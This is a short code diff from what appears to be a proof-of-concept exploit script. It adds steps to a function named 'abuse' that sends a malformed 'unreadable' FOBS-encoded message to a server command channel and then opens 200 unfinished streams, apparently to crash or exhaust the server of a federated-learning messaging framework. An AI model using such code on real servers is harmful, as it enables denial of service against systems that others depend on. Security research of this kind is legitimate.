@@ -47,6 +47,10 @@ UNFINISHED = 200
 
 def abuse(cell, site, target, port):
     send = cell.core_cell.fire_and_forget
+    encoding = {StreamHeaderKey.PAYLOAD_ENCODING: Encoding.FOBS}
+    unreadable = Message(encoding, b"unreadable")
+    cell.send_blob(CellChannel.SERVER_COMMAND, "submit_update", target, unreadable)
+    time.sleep(1.0)
     for number in range(UNFINISHED):
         piece = {
             StreamHeaderKey.CHANNEL: CellChannel.SERVER_COMMAND,
